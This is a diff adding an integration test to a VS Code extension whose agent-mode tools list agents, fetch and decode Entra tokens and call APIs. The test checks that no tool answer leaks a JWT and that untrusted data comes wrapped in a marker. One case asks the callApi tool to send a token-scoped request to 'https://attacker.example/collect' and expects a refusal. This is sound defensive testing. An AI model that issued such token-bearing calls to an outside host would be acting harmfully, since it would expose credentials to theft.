@@ -10,6 +10,7 @@ import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import {
+  AGENT,
   FED_AGENT,
   FED_BLUEPRINT,
   MI_CLIENT_ID,
@@ -316,6 +317,54 @@ describe('extension in a real VS Code', () => {
       assert.equal(await run(CommandId.deleteAgentIdentity, { agentId: created.clientId }), true);
       assert.ok(!(await treeRows()).some((r) => r.label === 'Graph-made Agent'));
       assert.equal(await run(CommandId.getAgentToken, { agentId: created.clientId, openInspector: false }), undefined);
+    });
+
+    it("agent mode's tools answer through vscode.lm.invokeTool, and no answer holds a token", async () => {
+      const invoke = async (name: string, input: object) => {
+        const result = await vscode.lm.invokeTool(name, { input, toolInvocationToken: undefined });
+        return result.content.map((p) => (p instanceof vscode.LanguageModelTextPart ? p.value : '')).join('');
+      };
+      const jwt = /eyJ[\w-]{4,}\.eyJ[\w-]{4,}\.[\w-]*/;
+      const said: string[] = [];
+      const listed = await invoke('entraAgentTokens_listAgents', {});
+      said.push(listed);
+      assert.match(listed, /Research Agent/);
+      assert.match(listed, /<untrusted-data>/);
+      const got = await invoke('entraAgentTokens_getAgentToken', {
+        agent: 'Research Agent',
+        scope: 'api://sandbox-weather/.default',
+      });
+      said.push(got);
+      assert.match(got, /Forecast\.Read/);
+      assert.match(got, /The token itself stays with the tool/);
+      // The held token, as a script gets it, decoded by the tool without being repeated.
+      const held = await run(CommandId.getAgentToken, {
+        agentId: AGENT,
+        scope: 'api://sandbox-weather/.default',
+        openInspector: false,
+      });
+      const decoded = await invoke('entraAgentTokens_decodeToken', { token: held!.accessToken });
+      said.push(decoded);
+      assert.match(decoded, /xms_par_app_azp/);
+      const explained = await invoke('entraAgentTokens_explainError', { text: 'AADSTS7000215: Invalid client secret' });
+      assert.match(explained, /client secret/i);
+      const ok = await invoke('entraAgentTokens_callApi', {
+        agent: AGENT,
+        url: `${status.authority}/apis/weather/forecast`,
+      });
+      said.push(ok);
+      assert.match(ok, /HTTP 200/);
+      assert.match(ok, /Sunny/);
+      // The host rule: another host is refused before any token is made, with the reason.
+      const refused = await invoke('entraAgentTokens_callApi', {
+        agent: AGENT,
+        url: 'https://attacker.example/collect',
+        scope: 'api://sandbox-weather/.default',
+      });
+      said.push(refused);
+      assert.match(refused, /could not do it/);
+      assert.match(refused, /attacker\.example/);
+      for (const text of said) assert.ok(!jwt.test(text), `a token in a tool's answer: ${text.slice(0, 200)}`);
     });
 
     it('New Blueprint in a real tenant without your sign-in app: refused before any sign-in, nothing added', async () => {
